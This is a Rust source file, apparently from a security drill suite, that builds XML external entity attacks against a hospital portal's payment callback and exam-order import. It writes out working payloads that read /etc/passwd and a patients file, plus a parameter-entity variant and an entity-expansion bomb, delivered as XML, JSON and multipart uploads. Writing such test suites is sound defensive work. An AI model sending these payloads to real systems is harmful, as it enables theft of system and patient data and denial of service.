//! XML external entities and an entity bomb, in the payment callback and the examination order.

use serde_json::json;

use super::encode::json_escaped;
use super::{Attack, AttackClass, Encoding, Place, Proof};
use crate::drill::request::{Field, HIS, Request};
use crate::portal::SECRET_MARK;

const PLANTED: Proof = Proof::Leaks(SECRET_MARK);
const PASSWD: Proof = Proof::Leaks("root:x:0:0");

fn xxe(place: Place, encoding: Encoding, name: &'static str, request: Request, proof: Proof) -> Attack {
    Attack::new(AttackClass::Xxe, place, encoding, name, request, proof)
}

fn payment(subset: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE xml [\n{subset}\n]>\n<xml><out_trade_no>1</out_trade_no><attach>&a;</attach></xml>"
    )
}

fn order(subset: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE ExamOrder [\n{subset}\n]>\n<ExamOrder><orderNo>1</orderNo><clinicalNote>&a;</clinicalNote></ExamOrder>"
    )
}

pub(super) fn all() -> Vec<Attack> {
    use Encoding::{JsonEscape, Obfuscated, Plain};
    use Place::{Json, Multipart, Xml};
    const FILE: &str = "<!ENTITY a SYSTEM \"file:///etc/passwd\">";
    const RELATIVE: &str = "<!ENTITY a SYSTEM '../../secret/patients.csv'>";
    const PUBLIC: &str = "<!ENTITY a PUBLIC \"-//A//B//EN\" \"file:///etc/passwd\">";
    const PARAMETER: &str = "<!ENTITY % p \"<!ENTITY a SYSTEM 'file:///etc/passwd'>\">\n%p;";
    let pay = |subset: &str| Request::post("/pay/notify").xml(&payment(subset)).agent("Mozilla/4.0");
    let import = |subset: &str| Request::post("/exam/import").body("application/xml", order(subset)).agent(HIS);
    vec![
        xxe(Xml, Plain, "file in a payment callback", pay(FILE), PASSWD),
        xxe(Xml, Plain, "relative file in a payment callback", pay(RELATIVE), PLANTED),
        xxe(Xml, Plain, "file in an order", import(FILE), PASSWD),
        xxe(Xml, Plain, "public identifier", import(PUBLIC), PASSWD),
        xxe(Xml, Obfuscated, "parameter entity", import(PARAMETER), PASSWD),
        xxe(Xml, Plain, "entity bomb", pay(&bomb()), Proof::Swells(500_000)),
        xxe(Json, Plain, "order in JSON", Request::post("/exam/import").json(&json!({"xml": order(FILE)})), PASSWD),
        xxe(
            Json,
            JsonEscape,
            "order in JSON escapes",
            Request::post("/exam/import").body("application/json", json_escaped("xml", &order(RELATIVE))),
            PLANTED,
        ),
        xxe(
            Multipart,
            Plain,
            "order as a file",
            Request::post("/exam/import").multipart(&[Field::File {
                name: "file",
                file_name: "order.xml",
                content_type: "text/xml",
                content: order(FILE).as_bytes(),
            }]),
            PASSWD,
        ),
    ]
}

/// Ten to the sixth times "lol" (the portal stops at 1 MiB).
fn bomb() -> String {
    let level = |level: usize| format!("<!ENTITY l{level} \"{}\">\n", format!("&l{};", level - 1).repeat(10));
    let levels = (1..=5).map(level).collect::<Vec<_>>().concat();
    format!("<!ENTITY l0 \"lol\">\n{levels}<!ENTITY a \"{}\">", "&l5;".repeat(10))
}
